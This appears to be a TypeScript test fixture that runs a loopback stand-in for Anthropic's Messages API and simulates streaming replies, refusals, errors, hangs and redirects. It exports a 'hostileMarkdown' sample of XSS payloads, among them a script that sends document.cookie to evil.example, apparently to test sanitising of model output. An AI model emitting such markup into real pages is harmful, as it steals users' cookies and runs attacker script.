import { once } from "node:events";
import {
  createServer,
  type IncomingHttpHeaders,
  type IncomingMessage,
  type ServerResponse,
} from "node:http";
import { text as readText } from "node:stream/consumers";

import { z } from "zod";

const callSchema = z.object({
  model: z.string(),
  max_tokens: z.number(),
  stream: z.literal(true),
  system: z.string(),
  messages: z.array(
    z.object({
      role: z.string(),
      content: z.array(z.object({ type: z.literal("text"), text: z.string() })),
    }),
  ),
});

/** How the service behaves until it is told otherwise. */
export type Behaviour =
  | "replies"
  | "does not stream"
  | "is empty"
  | "refuses"
  | "stops at the limit"
  | "is malformed"
  | "is no JSON"
  | "is overloaded"
  | "fails"
  | "hangs"
  | "hangs midway"
  | "waits midway"
  | "fails midway"
  | "is cut"
  | "hangs up"
  | "redirects";

export type CapturedCall = {
  headers: IncomingHttpHeaders;
  raw: string;
  body: z.infer<typeof callSchema>;
};

/** A stand-in for the model service, on loopback. */
export type MessagesApi = {
  url: string;
  calls: CapturedCall[];
  /** How many callers hung up before they had their reply. */
  abandonedCalls: () => number;
  /** Says these words from now on; a list is what a stream brings piece by piece. */
  behave: (behaviour: Behaviour, words?: string | readonly string[]) => void;
  /** Lets the calls that wait midway go on to their end. */
  goOn: () => void;
  stop: () => Promise<void>;
};

/** What a model might write when somebody has talked it into doing harm to the page. */
export const hostileMarkdown = [
  '<script>fetch("https://evil.example/?"+document.cookie)</script>',
  "![x](https://evil.example/pixel.png)",
  "[click](javascript:alert(1)) [here](https://evil.example)",
  '<img src=x onerror="alert(1)"><iframe src="https://evil.example"></iframe>',
].join("\n\n");

/** Starts a server that speaks Anthropic's Messages API and remembers what it was sent. */
export async function startMessagesApi(): Promise<MessagesApi> {
  const calls: CapturedCall[] = [];
  const waiting: (() => void)[] = [];
  let behaviour: Behaviour = "replies";
  let pieces: readonly string[] = ["For 8 hours. [1]"];
  let abandoned = 0;
  const server = createServer(async (request, response) => {
    response.once("close", () => {
      if (!response.writableFinished && isPatient(behaviour)) abandoned += 1;
    });
    calls.push(await capture(request));
    answer(response, behaviour, pieces, (goOn) => waiting.push(goOn));
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = z.object({ port: z.number() }).parse(server.address());
  return {
    url: `http://127.0.0.1:${address.port}`,
    calls,
    abandonedCalls: () => abandoned,
    behave: (next, words) => {
      behaviour = next;
      if (words !== undefined) pieces = typeof words === "string" ? [words] : words;
    },
    goOn: () => {
      for (const goOn of waiting.splice(0)) goOn();
    },
    stop: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

function isPatient(behaviour: Behaviour): boolean {
  return behaviour === "hangs" || behaviour.endsWith("midway");
}

async function capture(request: IncomingMessage): Promise<CapturedCall> {
  const raw = await readText(request);
  return { headers: request.headers, raw, body: callSchema.parse(JSON.parse(raw)) };
}

function answer(
  response: ServerResponse,
  behaviour: Behaviour,
  pieces: readonly string[],
  wait: (goOn: () => void) => void,
): void {
  const [first = "", ...rest] = pieces;
  const end = (stop_reason: string) => {
    response.end(
      events({ type: "message_delta", delta: { stop_reason } }, { type: "message_stop" }),
    );
  };
  const begin = (...said: string[]) => {
    response.writeHead(200, { "content-type": "text/event-stream; charset=utf-8" });
    response.write(
      events(
        { type: "message_start", message: message([]) },
        { type: "content_block_start", index: 0, content_block: { type: "text", text: "" } },
        { type: "ping" },
        ...said.map(delta),
      ),
    );
  };
  switch (behaviour) {
    case "replies":
      begin(...pieces);
      return end("end_turn");
    case "is empty":
      begin();
      return end("end_turn");
    case "refuses":
      begin(first);
      return end("refusal");
    case "stops at the limit":
      begin(...pieces);
      return end("max_tokens");
    case "is malformed":
      begin(first);
      response.end(events({ type: "content_block_delta", delta: { type: "text_delta", text: 8 } }));
      return;
    case "is no JSON":
      begin(first);
      response.end("event: content_block_delta\ndata: <html>\n\n");
      return;
    case "fails midway":
      begin(first);
      response.end(`event: error\ndata: ${failure("overloaded_error")}\n\n`);
      return;
    case "hangs midway":
      begin(first);
      return;
    case "waits midway":
      begin(first);
      wait(() => {
        response.write(events(...rest.map(delta)));
        end("end_turn");
      });
      return;
    case "is cut":
      begin(first);
      response.write(": about to break\n\n", () => response.destroy());
      return;
    case "does not stream":
      send(response, 200, JSON.stringify(message(pieces)));
      return;
    case "is overloaded":
      send(response, 429, failure("rate_limit_error"), { "retry-after": "1" });
      return;
    case "fails":
      send(response, 500, failure("api_error"));
      return;
    case "redirects":
      send(response, 307, "", { location: "http://127.0.0.1:9/v1/messages" });
      return;
    case "hangs":
      return;
    case "hangs up":
      response.destroy();
  }
}

function delta(text: string) {
  return { type: "content_block_delta", index: 0, delta: { type: "text_delta", text } };
}

function events(...all: ({ type: string } & Record<string, unknown>)[]): string {
  return all.map((event) => `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`).join("");
}

function message(pieces: readonly string[]) {
  return {
    id: "msg_01",
    type: "message",
    role: "assistant",
    model: "claude-test",
    content: pieces.map((text) => ({ type: "text", text })),
    stop_reason: pieces.length > 0 ? "end_turn" : null,
    stop_sequence: null,
    usage: { input_tokens: 1, output_tokens: 1 },
  };
}

function failure(type: string): string {
  return JSON.stringify({
    type: "error",
    error: { type, message: "provider words, not for people" },
  });
}

function send(response: ServerResponse, status: number, body: string, headers = {}): void {
  response.writeHead(status, { "content-type": "application/json", ...headers });
  response.end(body);
}
